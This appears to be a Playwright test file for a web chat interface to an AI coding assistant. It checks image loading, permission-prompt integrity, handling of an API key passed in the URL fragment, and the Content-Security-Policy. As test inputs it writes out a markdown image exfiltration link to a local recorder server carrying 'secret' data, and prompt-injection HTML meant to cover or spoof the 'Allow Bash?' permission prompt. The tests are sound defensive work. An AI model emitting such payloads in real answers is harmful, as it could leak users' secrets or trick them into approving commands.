// What assistant output may do to the page (nothing: no loads from elsewhere, nothing
// drawn over the permission prompt), the key's way into the page (the link's fragment,
// gone from the address at once), and the app under the strict Content-Security-Policy.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, expectAnswered, expectConnected, newSession, openChat, send, test, transcript } from './fixtures';

/** A loopback HTTP server that records every request it gets: the would-be exfiltration endpoint. */
async function recorder(): Promise<{ url: string; hits: string[]; close: () => Promise<void> }> {
  const hits: string[] = [];
  const srv = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'image/gif' });
    res.end();
  });
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
  const { port } = srv.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    hits,
    close: () => new Promise<void>((r) => srv.close(() => r())),
  };
}

test('a remote image in an answer is not loaded: it shows as a link with its alt text', async ({ page, server }) => {
  const leak = await recorder();
  try {
    await openChat(page, server);
    await newSession(page);
    const target = `${leak.url}/leak?data=secret-from-the-project`;
    // A same-origin image beside it still loads: images as such work, only remote ones are held back.
    await send(page, `say: here ![the chart](${target}) and <img src="${leak.url}/raw.gif" alt="raw"> and ![logo](/icon.svg)`);
    const log = transcript(page);
    const link = log.locator('.msg-assistant a.remote-image', { hasText: 'the chart' });
    await expect(link).toBeVisible();
    await expect(link).toHaveAttribute('href', target);
    await expect(log.locator('.msg-assistant a.remote-image', { hasText: 'raw' })).toBeVisible();
    const logo = log.locator('.msg-assistant img[alt="logo"]');
    await expect(logo).toBeVisible();
    await expect.poll(() => logo.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);
    await expectAnswered(page, 1);
    expect(await log.locator('.msg-assistant img').count()).toBe(1);
    expect(leak.hits).toEqual([]);
  } finally {
    await leak.close();
  }
});

test.describe('the permission prompt', () => {
  // The sanitizer parses the attacker's style attribute in its inert document; the page's CSP reports that, harmlessly.
  test.use({ allowConsoleErrors: /Applying inline style violates/ });

  test('an answer cannot cover it', async ({ page, permServer }) => {
    await openChat(page, permServer);
    await newSession(page);
    // Everything a prompt injection could try to draw over the app with.
    await send(
      page,
      'say: <div style="position:fixed;inset:0;z-index:2147483647;background:#fff">covering everything</div>' +
        '<div class="scrim">scrim</div><div class="permission-dock">fake dock</div><dialog open>dialog</dialog>' +
        '<div popover="manual" id="p">popover</div><section role="region" aria-label="Allow Bash?">fake prompt</section>',
    );
    await expect(transcript(page).locator('.msg-assistant')).toContainText('covering everything');
    await expectAnswered(page, 1);

    await send(page, 'run: touch cover.txt && echo prompt-ok'); // not read-only: the CLI asks first
    const prompt = page.getByRole('region', { name: 'Allow Bash?' });
    await expect(prompt).toHaveCount(1);
    const allow = prompt.getByRole('button', { name: 'Allow', exact: true });
    await expect(allow).toBeVisible();
    const hit = await allow.evaluate((btn) => {
      const r = btn.getBoundingClientRect();
      const at = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
      return at === btn || btn.contains(at);
    });
    expect(hit).toBe(true);
    // The assistant's markup got no style, class, role or layer of its own.
    const markup = transcript(page).locator('.msg-assistant .markdown').first();
    expect(await markup.locator('[style], [class], [role], [popover], dialog').count()).toBe(0);

    const box = await allow.boundingBox();
    if (!box) throw new Error('no Allow button box');
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    await expect(transcript(page).getByRole('heading', { name: 'Bash: allowed' })).toBeVisible();
    await expect(page.getByRole('article', { name: 'Tool call: Bash' }).locator('.tool-pre')).toHaveText('prompt-ok');
    await expectAnswered(page, 2);
  });
});

test('the #token= link connects, and the key leaves the address bar and every request', async ({ page, server }) => {
  const urls: string[] = [];
  page.on('request', (r) => {
    urls.push(r.url());
    const ref = r.headers().referer;
    if (ref) urls.push(ref);
  });
  await page.goto(`${server.url}/chat#token=${encodeURIComponent(server.key)}`);
  await expectConnected(page);
  expect(page.url()).toBe(`${server.url}/chat`);
  expect(urls.length).toBeGreaterThan(0);
  expect(urls.filter((u) => u.includes(server.key))).toEqual([]);
  await page.reload();
  await expectConnected(page); // kept for the tab
});

test('a #token= link opened in a tab already showing the chat is read and cleared too', async ({ page, server }) => {
  await page.goto(`${server.url}/chat`);
  await expect(page.getByLabel('API key')).toBeVisible();
  // Same document: only the fragment changes, the page does not reload.
  await page.goto(`${server.url}/chat#token=${encodeURIComponent(server.key)}`);
  await expectConnected(page);
  expect(page.url()).toBe(`${server.url}/chat`);
});

/** Records the page's CSP violations (each also fails the test as a console error, see fixtures). */
async function cspViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return () => page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
}

test.describe('under the strict Content-Security-Policy', () => {
  test.use({ allowConsoleErrors: /Applying inline style violates/ }); // the deliberate one at the end

  test('the page carries it, and a whole chat runs with no violation', async ({ page, server }) => {
    const violations = await cspViolations(page);
    await openChat(page, server);
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    for (const d of ["default-src 'self'", "script-src 'self'", "style-src 'self'", "img-src 'self' data:", "connect-src 'self'"])
      expect(policy).toContain(d);
    expect(policy).not.toContain('unsafe');
    await newSession(page); // the progress bar's width is set through the CSSOM, which style-src allows
    await send(page, 'say: **bold**, a table\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```\n\n![logo](/icon.svg)');
    await expectAnswered(page, 1);
    await expect(transcript(page).locator('.msg-assistant .hljs-keyword')).toHaveText('const');
    await send(page, 'run: echo under-csp');
    await expect(page.getByRole('article', { name: 'Tool call: Bash' }).locator('.tool-pre')).toHaveText('under-csp');
    await expectAnswered(page, 2);
    expect(await violations()).toEqual([]);
    // The policy is really in force: an inline <style> is refused and reported.
    await page.evaluate(() => {
      const s = document.createElement('style');
      s.textContent = 'body { background: red }';
      document.head.append(s);
    });
    // Reported once per policy in force: the page's <meta> and the server's header.
    await expect.poll(async () => (await violations()).length).toBeGreaterThan(0);
    for (const v of await violations()) expect(v).toMatch(/^style-src/);
  });
});
